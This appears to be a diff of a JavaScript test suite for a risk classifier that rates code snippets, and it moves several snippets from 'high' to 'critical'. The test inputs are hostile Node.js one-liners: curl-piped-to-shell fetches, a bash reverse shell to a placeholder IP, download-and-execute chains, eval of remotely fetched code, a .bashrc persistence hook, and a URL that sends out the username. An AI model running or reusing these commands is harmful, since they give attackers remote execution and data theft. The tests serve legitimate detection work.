@@ -29,13 +29,8 @@ test("bad: the same in Python", () => {
 
 test('bad: programs and shells of others', () => {
   for (const code of [
-    "require(\"child_process\").exec(\"curl -s https://example.org/x | sh\")",
-    "require(\"child_process\").spawn(\"sh\", [\"-c\", \"curl -s https://example.org/x | sh\"])",
-    "require(\"child_process\").exec(\"bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\")",
     "const s = require(\"net\").connect(1, h); const sh = require(\"child_process\").spawn(win ? \"cmd.exe\" : \"/bin/sh\"); s.pipe(sh.stdin)",
     "const p = require(\"path\").join(require(\"os\").tmpdir(), \"x\"); require(\"https\").get(u, (r) => r.pipe(f(p))); require(\"child_process\").execFile(p)",
-    "require(\"child_process\").spawn(\"powershell.exe\", [\"-W\", \"Hidden\", \"-Enc\", \"SQBFAFgAIAAoAE4AZQB3AC0ATwBi\"])",
-    "require(\"child_process\").exec(\"curl -o /tmp/a https://example.org/a && chmod +x /tmp/a && /tmp/a\")",
     "require(\"child_process\").exec(\"curl https://example.org/$(whoami)\")",
     "const f = require(\"os\").tmpdir() + \"/m.js\"; require(\"https\").get(u, (r) => r.pipe(w(f)).on(\"finish\", () => require(f)))",
     "require(\"fs\").appendFileSync(home + \"/.bashrc\", \"curl -s https://example.org/p | bash\")",
@@ -44,6 +39,10 @@ test('bad: programs and shells of others', () => {
   ]) assert.equal(worst(code), 'high', code);
   for (const code of [
     "const s = require(\"net\").connect(1, h); s.on(\"data\", (d) => require(\"child_process\").exec(d.toString()))",
+    "require(\"child_process\").exec(\"curl -s https://example.org/x | sh\")",
+    "require(\"child_process\").spawn(\"sh\", [\"-c\", \"curl -s https://example.org/x | sh\"])",
+    "require(\"child_process\").exec(\"bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\")",
+    "require(\"child_process\").exec(\"curl -o /tmp/a https://example.org/a && chmod +x /tmp/a && /tmp/a\")",
     "const w = new WebSocket(u); w.addEventListener(\"message\", (e) => eval(e.data))",
     "let text = \"\"; require(\"https\").get(u, (r) => { r.on(\"data\", (d) => { text += d }); r.on(\"end\", () => eval(text)) })",
   ]) assert.equal(worst(code), 'critical', code);
